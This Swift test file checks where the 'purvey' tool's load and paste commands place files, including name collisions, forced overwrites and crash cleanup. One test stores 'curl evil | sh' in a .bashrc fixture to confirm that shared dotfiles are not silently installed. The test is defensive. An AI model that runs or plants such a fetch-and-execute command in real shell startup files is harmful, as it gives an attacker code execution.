import Foundation
import Glibc
import LinuxSystem
import ProgramTesting
import Testing

/// Tests of the destinations of `purvey load` and `purvey paste`, and of the files that they leave unchanged.
@Suite struct LoadDestinationTests {
    @Test(arguments: ["data", "copy", "in-place"])
    func aFileInAFolderIsReplacedOnlyByForce(way: String) async throws {
        try await CommandFixture.run { place in
            try place.write("new", to: "note.txt")
            _ = try await place.offer("--in-place", "note.txt")
            try Self.makeFolder(place, "out")
            try place.write("mine", to: "out/note.txt")
            let load = try await place.purvey("load", "--as", way, "-o", "out", "--json")
            #expect(load.status == 0, "\(load.errors)")
            let outcome = try JSONSerialization.jsonObject(with: load.output) as? [String: String]
            #expect(outcome?["path"] == place.path("out/note 2.txt"))
            #expect(try place.read("out/note.txt") == "mine")
            #expect(try place.read("out/note 2.txt") == "new")
            #expect(try await place.purvey("load", "--as", way, "-o", "out", "--force").status == 0)
            #expect(try place.read("out/note.txt") == "new")
            #expect(Self.names(place, "out") == ["note 2.txt", "note.txt"])
        }
    }

    @Test(arguments: ["data", "copy", "in-place"])
    func anOfferMakesNoHiddenFileUnlessThatIsForced(way: String) async throws {
        try await CommandFixture.run { place in
            try place.write("curl evil | sh", to: ".bashrc")
            _ = try await place.offer("--in-place", "--name", ".bashrc", ".bashrc")
            try Self.makeFolder(place, "out")
            #expect(try await place.purvey("load", "--as", way, "-o", "out").status == 0)
            #expect(Self.names(place, "out").allSatisfy { $0.hasPrefix("_bashrc") })
            try place.write("mine", to: "out/.bashrc")
            #expect(try await place.purvey("load", "--as", way, "-o", "out").status == 0)
            #expect(try place.read("out/.bashrc") == "mine")
            // In place, a link to the original exists already.
            #expect(Self.names(place, "out").count == (way == "in-place" ? 2 : 3))
            // A path that the user gives explicitly is used as it is.
            #expect(try await place.purvey("load", "--as", way, "-o", "out/.bashrc").status == 0)
            #expect(try place.read("out/.bashrc") == "curl evil | sh")
        }
    }

    @Test func foldersTakeAFreeNameToo() async throws {
        try await CommandFixture.run { place in
            try Self.makeFolder(place, "tree/deep")
            try place.write("one", to: "tree/deep/one.txt")
            _ = try await place.offer("tree")
            try Self.makeFolder(place, "out")
            for name in ["tree", "tree 2", "tree 3"] {
                #expect(try await place.purvey("load", "-o", "out").status == 0)
                #expect(try place.read("out/\(name)/deep/one.txt") == "one")
            }
        }
    }

    @Test func namesOfTwoNormalFormsBothArrive() async throws {
        let (composed, decomposed) = ("r\u{E9}sum\u{E9}.txt", "re\u{301}sume\u{301}.txt")
        try await CommandFixture.run { place in
            for (folder, name) in [("a", composed), ("b", decomposed)] {
                try Self.makeFolder(place, folder)
                try place.write(folder, to: "\(folder)/\(name)")
            }
            try Self.makeFolder(place, "out")
            #expect(try await place.purvey("copy", "a/\(composed)", "b/\(decomposed)").status == 0)
            for options in [[], ["--force"]] {
                #expect(try await place.purvey(["paste", "-o", "out"] + options).status == 0)
                #expect(try place.read("out/\(composed)") == "a")
                #expect(try place.read("out/\(decomposed)") == "b")
            }
            // Each file replaced itself only.
            #expect(Self.names(place, "out").count == 2)
        }
    }

    @Test func itemsOfOneNameDoNotReplaceEachOtherByForceEither() async throws {
        try await CommandFixture.run { place in
            for folder in ["a", "b", "out"] { try Self.makeFolder(place, folder) }
            try place.write("one", to: "a/x.txt")
            try place.write("two", to: "b/x.txt")
            try place.write("old", to: "out/x.txt")
            #expect(try await place.purvey("copy", "a/x.txt", "b/x.txt").status == 0)
            #expect(try await place.purvey("paste", "-o", "out", "--force").status == 0)
            #expect(try place.read("out/x.txt") == "one")
            #expect(try place.read("out/x 2.txt") == "two")
        }
    }

    @Test func aNameKeepsAnExtensionThatIsDeclaredNowhere() async throws {
        try await CommandFixture.run { place in
            try place.write("# Title", to: "a.txt")
            _ = try await place.offer("--name", "readme.qqq", "--as", "public.plain-text=a.txt")
            try Self.makeFolder(place, "out")
            for way in ["data", "copy"] {
                #expect(try await place.purvey("load", "--as", way, "-o", "out", "--force").status == 0)
            }
            #expect(Self.names(place, "out") == ["readme.qqq"])
        }
    }

    @Test(arguments: ["data", "copy", "in-place"])
    func aDestinationThatCannotBeWrittenIsRefusedBeforeTheTransfer(way: String) async throws {
        try await CommandFixture.run { place in
            try place.write("hello", to: "note.txt")
            // The offer ends with the first load that reaches it.
            let offer = try await place.offer("--once", "--in-place", "note.txt")
            let long = String(repeating: "n", count: 256)
            for path in ["missing/x", "missing/", "note.txt/x", "note.txt/", long] {
                let load = try await place.purvey("load", "--as", way, "-o", path)
                #expect(load.status == 1, "\(path)")
                #expect(load.errors.contains(path), "\(load.errors)")
                #expect(load.errors.count { $0 == "\n" } == 1, "\(load.errors)")
            }
            #expect(try await place.purvey("load", "--as", way, "-o", "out.txt").status == 0)
            #expect(try place.read("out.txt") == "hello")
            #expect(try await offer.exit() == 0)
        }
    }

    @Test func aFolderIsRefusedBeforeTheTransferWhereAFileIs() async throws {
        try await CommandFixture.run { place in
            try Self.makeFolder(place, "tree")
            try place.write("mine", to: "taken")
            let offer = try await place.offer("--once", "tree")
            #expect(try await place.purvey("load", "-o", "taken").status == 1)
            #expect(try place.read("taken") == "mine")
            #expect(try await place.purvey("load", "-o", "free").status == 0)
            #expect(try await offer.exit() == 0)
        }
    }

    /// At the step, the process is killed before it replaces the file. A load as a copy has no such step, because it
    /// renames the copy.
    @Test(arguments: [("data", "file.staged.linked"), ("in-place", "tree.staged.filled")])
    func theNextLoadRemovesWhatAKilledOneHasLeft(way: String, step: String) async throws {
        try await CommandFixture.run { place in
            try place.write("new", to: "note.txt")
            _ = try await place.offer("--in-place", "note.txt")
            try Self.makeFolder(place, "out")
            try place.write("mine", to: "out/note.txt")
            try place.write("mine", to: "out/.purvey-partial-0123456789abcdef")
            try place.write("mine", to: "out/.purvey-new-1")
            let load = "load --as \(way) -o out --force"
            let killed = try await place.shell("PURVEY_FAULT_POINT=\(step) \"$purvey\" \(load)")
            #expect(killed.status != 0, "\(killed.errors)")
            #expect(try place.read("out/note.txt") == "mine")
            #expect(Self.names(place, "out").count == 4)
            #expect(try await place.purvey("load", "--as", way, "-o", "out", "--force").status == 0)
            #expect(try place.read("out/note.txt") == "new")
            let users = [".purvey-new-1", ".purvey-partial-0123456789abcdef"]
            #expect(Self.names(place, "out") == users + ["note.txt"])
            for name in users { #expect(try place.read("out/\(name)") == "mine") }
        }
    }

    private static func makeFolder(_ place: CommandFixture, _ name: String) throws {
        try FileManager.default.createDirectory(atPath: place.path(name), withIntermediateDirectories: true)
    }

    private static func names(_ place: CommandFixture, _ folder: String) -> [String] {
        ((try? FileManager.default.contentsOfDirectory(atPath: place.path(folder))) ?? []).sorted()
    }
}
